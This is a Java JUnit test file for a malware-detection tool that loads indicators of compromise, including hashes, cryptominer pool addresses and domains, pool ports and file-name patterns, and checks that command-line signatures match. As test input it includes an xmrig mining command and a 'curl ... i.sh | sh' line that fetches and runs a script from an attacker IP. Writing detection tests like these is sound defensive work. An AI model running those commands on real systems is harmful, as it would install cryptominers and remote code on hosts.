package dev.ferret.data;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

class IocSetTest {
    @Test
    void truncatedHashIsReportedWithItsLineAndNeverMatched(@TempDir Path dir) throws IOException {
        Path file = dir.resolve("case1-hash-iocs.txt");
        Files.writeString(file, String.join("\n",
                "# THREATS case 1, as printed",
                "6a034a7041f30688086080a1c922e60;miner .sh (31 digits)",
                "d3b1700a413924743caab1460129396b;DDG miner",
                "zz3b1700a413924743caab1460129396;not hex"));
        IocSet iocs = new IocSet();
        iocs.addHashes(DataFileReader.read(file));
        assertEquals(2, iocs.problems().size());
        assertTrue(iocs.problems().get(0).contains(file + ":2"), iocs.problems().get(0));
        assertTrue(iocs.problems().get(0).contains("31 hex digits"), iocs.problems().get(0));
        assertTrue(iocs.problems().get(1).contains(":4"), iocs.problems().get(1));
        // the full hash that begins with the truncated one must not match
        assertFalse(iocs.hash("6a034a7041f30688086080a1c922e60f").isPresent());
        assertEquals("DDG miner", iocs.hash("D3B1700A413924743CAAB1460129396B").orElseThrow().description());
    }

    @Test
    void addressesRangesAndDomains() {
        IocSet iocs = new IocSet();
        iocs.addNetwork(List.of(
                new DataLine("t", 1, "91.121.140.167;pool", ""),
                new DataLine("t", 2, "10.66.0.0/16;lab range", ""),
                new DataLine("t", 3, "supportxmr.com", "Monero pool"),
                new DataLine("t", 4, "2001:db8::/32;doc range", ""),
                new DataLine("t", 5, "not a value!", "")));
        assertTrue(iocs.address("91.121.140.167").isPresent());
        assertTrue(iocs.address("10.66.3.4").isPresent());
        assertFalse(iocs.address("10.67.0.1").isPresent());
        assertTrue(iocs.address("2001:db8:1::5").isPresent());
        assertEquals("Monero pool", iocs.domain("pool.SupportXMR.com").orElseThrow().description());
        assertFalse(iocs.domain("supportxmr.com.evil.org").isPresent());
        assertFalse(iocs.domain("notsupportxmr.com").isPresent());
        assertEquals(1, iocs.problems().size());
        assertTrue(iocs.problems().get(0).startsWith("t:5"));
    }

    @Test
    void poolPortsAndFileNamePatternsWithFalsePositives() {
        IocSet iocs = new IocSet();
        iocs.addPoolPorts(List.of(new DataLine("p", 1, "3333;Stratum", ""), new DataLine("p", 2, "70000;bad", "")));
        iocs.addFileNames(List.of(new DataLine("f", 1, "/tmp/[a-z]+;60;/tmp/systemd-", "temp binary"),
                new DataLine("f", 2, "(unclosed;50", "")));
        assertTrue(iocs.poolPort(3333).isPresent());
        assertFalse(iocs.poolPort(70000).isPresent());
        assertEquals(1, iocs.fileNameMatches("/tmp/wnTKYg").size());
        assertEquals(0, iocs.fileNameMatches("/tmp/systemd-private").size());
        assertEquals(2, iocs.problems().size());
    }

    @Test
    void shippedSignaturesLoadWithoutProblems() {
        DetectionData data = DetectionData.builtIn();
        assertEquals(List.of(), data.problems());
        assertTrue(data.iocs().address("218.248.40.228").isPresent());
        assertTrue(data.iocs().poolPort(3333).isPresent());
        assertTrue(data.minerCommandLines().matching("./xmrig -o stratum+tcp://pool.minexmr.com:4444 --donate-level 1")
                .size() >= 2);
        assertTrue(data.minerCommandLines().matching("/usr/sbin/sshd -D").isEmpty());
        assertTrue(data.persistenceCommands().matching("curl -fsSL http://218.248.40.228:8443/i.sh | sh").size() >= 1);
        assertTrue(data.persistenceCommands().matching("test -x /usr/sbin/anacron || run-parts /etc/cron.daily")
                .isEmpty());
    }

    @Test
    void communityIocFilesLoad() throws IOException {
        Path iocs = SharedRules.signatureBase().resolve("iocs");
        org.junit.jupiter.api.Assumptions.assumeTrue(Files.isDirectory(iocs), "no ../shared/rules snapshot");
        DetectionData data = DetectionData.withUserIocs(List.of(iocs));
        var counts = data.iocs().counts();
        System.out.println("signature-base IOCs: " + counts + ", unusable lines: " + data.problems().size());
        data.problems().stream().limit(5).forEach(p -> System.out.println("  " + p));
        assertTrue(counts.get("hashes") > 3000, counts.toString());
        assertTrue(counts.get("file_names") > 3500, counts.toString());
        assertTrue(counts.get("domains") + counts.get("addresses") > 1500, counts.toString());
        // community lists are mostly clean: only a few lines may be unusable, and each is named by line
        assertTrue(data.problems().size() < 50, data.problems().toString());
        data.problems().forEach(p -> assertTrue(p.matches(".*:\\d+: .*") || p.contains("skipped"), p));
    }
}
